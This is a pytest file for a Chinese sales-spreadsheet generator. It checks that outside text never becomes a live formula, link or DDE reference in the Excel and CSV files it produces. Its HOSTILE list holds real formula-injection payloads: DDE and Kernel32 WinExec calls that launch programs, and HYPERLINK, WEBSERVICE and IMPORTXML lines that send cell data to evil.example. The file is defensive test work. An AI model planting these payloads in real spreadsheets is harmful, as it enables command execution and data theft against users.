"""Text from outside stays text: no formula, no link, in no part of any workbook (OWASP, "CSV Injection")."""

from __future__ import annotations

import io
import re
from dataclasses import replace
from functools import cache

import pandas as pd
import pytest
from openpyxl import load_workbook
from report_fixture import KANG
from written import OFFICE, books, parts, week

from salessheets.archive import Archive
from salessheets.settings import CRITERIA, Brand, Staff
from salessheets.write.findings import LEVELS
from salessheets.write.live import ANSWER, ITEM, POINTS, RULE
from salessheets.write.report import Report
from salessheets.write.settings_book import write_settings

FULL = {ord(narrow): wide for narrow, wide in zip("=+-@", "\uff1d\uff0b\uff0d\uff20", strict=True)}
HOSTILE = [
    "=1+1", "+1", "-1", "@SUM(A1)", '=1+1";=1+1', "\t=1", "\r=1", "\n=1", " =1", "'=1", "{=1+1}", "0x3D1",
    *(text.translate(FULL) for text in ("=1+1", "+1", "-1", "@SUM(A1)")),
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")', '=HYPERLINK("#概览!A1","x")', "=cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","x")', '=WEBSERVICE("http://evil.example")', "='file:///c:/x.xlsx'#$A.A1", "=2+5+cmd|' /C calc'!A0",
    "http://evil.example/a", "https://evil.example", "ftp://evil.example", "mailto:a@evil.example", "internal:概览!A1",
    *(f"{blank}=1+1" for blank in ("  ", "\u3000", "\u00a0", "\ufeff", "\u200b", "\t ", "\r\n")), '=1+1",=1+1,"', "'=1+1", '"=1+1"',
    "+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")', "=SERVICE.X()", '=CALL("Kernel32","WinExec","JCJ","calc",0)',
    '=REGISTER.ID("Kernel32","WinExec")', '=IMAGE("http://evil.example/a.png")', '=_xlfn.WEBSERVICE("http://evil.example")',
    '=DISPIMG("ID_1",1)', '\uff1dHYPERLINK("http://evil.example","点")', "\uff20SUM(A1)", "\uff0b1+cmd|' /C calc'!A0", "\uff0d1",
    "external:c:\\x.xlsx", "file:///c:/x.xlsx", "\\\\evil\\share", "<script>alert(1)</script>", "]]><f>1+1</f>", "&amp;=1",
]  # fmt: skip
LEAD_TEXT = [
    "name", "title", "phone", "wechat", "qq", "company", "province", "city", "county", "township", "address", "channel",
    "source_detail", "referrer", "first_date", "last_date", "summary", "origin", "todo", "manual_class", "class_reason",
    "owner", "first_due", "status", "result", "next_date", "note", "advice",
]  # fmt: skip
# Ours are made of these parts alone: nothing in a formula comes from outside, and none of them asks anybody else.
FUNCTIONS = ("IF", "AND", "OR", "NOT", "ROUND", "ROUNDUP", "SUM", "MAX", "SUMPRODUCT", "COUNTIFS", "COUNTIF", "IFERROR",
             "INDEX", "MATCH", "TRIM", "SUBSTITUTE", "RIGHT", "MID")  # fmt: skip
SAID = {"", "A", "B", "C", "待评", "已成交", "放弃", ">", ">=", " / ", "、", "补", "可升A", "(推断)"} | {
    c.name for c in CRITERIA
}
TITLE = {"A类 ", " 个\uff0cB类 ", " 个", "\uff1b", " 个要补资料才能评"}  # a chart's finding, which follows the classes
PARTS = re.compile(
    rf"(?:{'|'.join(FUNCTIONS)})\(|'(?:待分配|有效客户名单|客户分析)'!|(?:规则|标准)_\w+|\$?[A-Z]{{1,3}}\$?\d+|\d+(?:\.\d+)?"
    r"|[(){}<>=+*/&,:-]"
)
STRINGS = re.compile(r'"((?:[^"]|"")*)"')


BEGINS = re.compile(rf"(?:1\+|\x22A类 \x22&)?(?:{'|'.join(FUNCTIONS)})\(")


def ours(formula: str) -> bool:
    """Whether a formula consists of nothing but functions, cells, names and texts of our own."""
    rest = PARTS.sub("", STRINGS.sub("", formula))
    return (
        set(STRINGS.findall(formula)) <= {*SAID, *TITLE, *LEVELS} and rest == "" and BEGINS.match(formula) is not None
    )


OWN_NUMBERS = {ITEM, ANSWER, POINTS, *RULE.values()}
OWN_NAMES = {"_xlnm.Print_Area", "_xlnm.Print_Titles", "_xlnm._FilterDatabase", "salessheets_issue"}


def with_every_text(rows: pd.DataFrame, columns: list[str]) -> pd.DataFrame:
    """The first row once per hostile text, with that text in all these columns."""
    many = pd.concat([rows.iloc[[0]]] * len(HOSTILE), ignore_index=True)
    return many.assign(**dict.fromkeys(columns, HOSTILE))


@cache
def poisoned() -> Report:
    """The week with each text in each column that comes from outside, names of staff and directors included."""
    made = week()
    leads = with_every_text(made.leads, LEAD_TEXT)
    leads["lead"] = [f"00009-1-{row}" for row in range(len(leads))]
    free = leads.assign(lead=leads["lead"] + "0", owner="")
    returns = with_every_text(made.returns, ["file", "sheet", "todo"])
    returns["fields"] = [dict.fromkeys(made.returns["fields"].iloc[0], text) for text in HOSTILE]
    people = tuple(Staff(text) for text in HOSTILE)
    brands = (Brand(KANG, "=1+1"), *(Brand(f"{text}牌", text) for text in HOSTILE))
    return replace(
        made,
        settings=replace(OFFICE, staff=people, brands=brands),
        leads=pd.concat([leads, free], ignore_index=True),
        unbranded=with_every_text(made.unbranded, [*LEAD_TEXT, "assigned_brand"]),
        merges=with_every_text(made.merges, ["person", "name", "phone", "company", "file", "sheet", "reason"]),
        ledger=with_every_text(made.ledger, ["person", "file"]),
        brand_ledger=with_every_text(made.brand_ledger, ["person", "file"]),
        invalid=with_every_text(made.invalid, ["name", "phone", "company", "reason", "person", "file", "sheet"]),
        returns=returns,
        unclaimed=with_every_text(made.unclaimed, ["file", "reason"]),
        conflicts=with_every_text(made.conflicts, ["values"]),
        counts=with_every_text(made.counts, ["channel"]),
    )


@cache
def files() -> dict[str, bytes]:
    made = poisoned()
    some = replace(made, settings=replace(made.settings, brands=made.settings.brands[:4]))
    return {**books(some), "设置": write_settings(made.settings)}


def live(data: bytes) -> list[str]:
    """Whatever Excel would calculate, follow or fetch, apart from our own."""
    found = []
    for sheet in load_workbook(io.BytesIO(data)):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" and not ours(str(cell.value).removeprefix("=")):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value}")
                link = cell.hyperlink
                if link and (link.target or not str(link.location).endswith("!A1")):
                    found.append(f"{sheet.title}!{cell.coordinate}: {link.target or link.location}")
    every = parts(data)
    for part, xml in every.items():
        formulas = re.findall(r"<f(?: [^>]*)?>([^<]*)</f>", xml) if "/worksheets/" in part else []
        found += [f"{part}: formula {f}" for f in formulas if not ours(unescaped(f))]
        found += [f"{part}: {word}" for word in ("TargetMode", "ddeLink", "oleObject", "oleLink") if word in xml]
        found += [
            f"{part}: name {n}"
            for n in re.findall(r'<definedName name="([^"]*)"', xml)
            if n not in OWN_NAMES | OWN_NUMBERS
        ]
    return found + [part for part in every if re.search(r"externalLink|embeddings|vba|activeX|connections", part)]


def unescaped(xml: str) -> str:
    return xml.replace("&quot;", '"').replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")


def test_nothing_from_outside_comes_alive():
    assert {name: live(data) for name, data in files().items()} == {name: [] for name in files()}


def test_the_check_finds_what_is_alive():
    """The check above is worth something: it sees a formula and a link that xlsxwriter makes of plain text."""
    import xlsxwriter

    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet()
        sheet.write(0, 0, "=1+1")
        sheet.write(1, 0, "http://evil.example")
    assert len(live(out.getvalue())) >= 3


def column(name: str, sheet: str, header: str) -> list:
    page = load_workbook(io.BytesIO(files()[name]))[sheet]
    at = next(cell.column for cell in page[3] if cell.value == header)
    return [page.cell(row, at) for row in range(4, page.max_row + 1)]


@pytest.mark.parametrize(
    ("sheet", "header"), [("有效客户名单", "客户姓名"), ("有效客户名单", "备注"), ("有效客户名单", "下次跟进日期")]
)
def test_hostile_text_is_shown_as_it_was(sheet, header):
    """Nothing is swallowed: the text is there, letter by letter."""
    shown = [as_stored(cell.value) for cell in column(KANG, sheet, header)]
    assert shown[: len(HOSTILE)] == [as_stored(text) for text in HOSTILE]


def as_stored(text: str) -> str:
    """XML makes a carriage return a line feed unless it is written as _x000D_."""
    return text.replace("_x000D_", "\n").replace("\r", "\n")


def test_text_that_starts_with_an_equals_sign_is_quoted():
    """Editing the cell in Excel would make a formula of it otherwise."""
    cells = [cell for cell in column(KANG, "有效客户名单", "客户姓名") if str(cell.value).startswith("=")]
    assert len(cells) > 10
    assert all(cell.quotePrefix or cell._style.quotePrefix for cell in cells)


def test_a_brand_with_an_ampersand_cannot_write_into_the_footer():
    """&F would print the file's name, &9 change the size; doubled it is the character itself."""
    office = replace(OFFICE, brands=(Brand("9号&F牌"),))
    xml = parts(books(week().__class__(**{**vars(week()), "settings": office}))["9号&F牌"])["xl/worksheets/sheet1.xml"]
    footer = unescaped(re.findall(r"<oddFooter>(.*?)</oddFooter>", xml)[0])
    assert footer.startswith('&L&"微软雅黑"&9 9号&&F牌 2026-W47&R')


# --- CSV ------------------------------------------------------------------------------------------------------------


def first_sign(cell: str) -> str:
    """What Excel sees first: blanks and invisible signs do not count, full width is half width."""
    import unicodedata

    text = re.sub(r"^[\s\u200b-\u200d\u2060\ufeff\u00ad]+", "", unicodedata.normalize("NFKC", cell))
    return "\t" if cell[:1] in ("\t", "\r", "\n") else text[:1]


def cells_of(data: bytes) -> list[str]:
    import csv

    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def test_no_cell_of_a_csv_starts_a_formula():
    """名录池 and trace hold every hostile text, each with an apostrophe before it."""
    from salessheets.publish import _pool_csv

    made = poisoned()
    made = replace(made, closed=with_every_text(made.leads, LEAD_TEXT).assign(brand=KANG))
    cells = cells_of(_pool_csv(made, KANG))
    dangerous = {text for text in HOSTILE if first_sign(text) in ("=", "+", "-", "@", "\t")}
    assert dangerous <= {cell.removeprefix("'") for cell in cells}
    assert [cell for cell in cells if first_sign(cell) in ("=", "+", "-", "@", "\t")] == []


@pytest.mark.parametrize("text", [*HOSTILE, "'", "''=1", "", "普通", "2026-11-20", "a=b", "-"])
def test_what_was_made_harmless_can_be_read_back(text):
    from salessheets.csvtext import harmless, original

    assert original(harmless(text)) == text
    assert first_sign(harmless(text)) not in ("=", "+", "-", "@", "\t")


def test_from_the_hand_in_to_every_file_nothing_comes_alive(tmp_path):
    """Every hostile text in every text column of a real hand-in, as folder, file and sheet name too, through two runs."""
    import csv
    from datetime import date

    from salessheets import settings as office_settings
    from salessheets.office import Office
    from salessheets.summary import write_trace
    from salessheets.week import trace, weekly

    office = Office(tmp_path / "办公室")
    office.make()
    settings = replace(office_settings.default(), brands=(Brand("康泰"),), staff=(Staff("陈静"),))
    office.settings.write_bytes(write_settings(settings))
    header = [
        "咨询日期",
        "咨询渠道",
        "客户姓名",
        "联系电话",
        "微信号",
        "单位名称",
        "意向品牌",
        "咨询内容",
        "备注",
        "自己的列",
    ]
    for folder in ("陈静", "=1+1", "@SUM(A1)", "+cmd"):
        (office.inbox / folder).mkdir()
        with (office.inbox / folder / "=cmd.csv").open("w", encoding="utf-8-sig", newline="") as out:
            rows = csv.writer(out)
            rows.writerow(header)
            for at, text in enumerate(HOSTILE):
                contact = text if at % 3 == 0 else f"1367777{at:04d}"
                brand = "康泰" if at % 2 else text
                rows.writerow(["2026-11-10", text, text, contact, text, text, brand, *[text] * 3])
    weekly(office, day=date(2026, 11, 13))
    weekly(office, day=date(2026, 11, 20))
    write_trace(trace(office), office.root / "去向.csv")
    books = [path for folder in (office.reports, office.returns) for path in folder.rglob("*.xlsx")]
    assert len(books) > 4
    assert {path.name: live(path.read_bytes()) for path in books} == {path.name: [] for path in books}
    tables = [office.root / "去向.csv", *office.archive.glob("*.csv"), *office.reports.rglob("*.csv")]
    assert len(tables) >= 3
    for path in tables:
        assert [c for c in cells_of(path.read_bytes()) if first_sign(c) in ("=", "+", "-", "@", "\t")] == [], path.name
    assert {e.person for e in Archive.open(office).entries} >= {"陈静", "=1+1", "@SUM(A1)", "+cmd"}
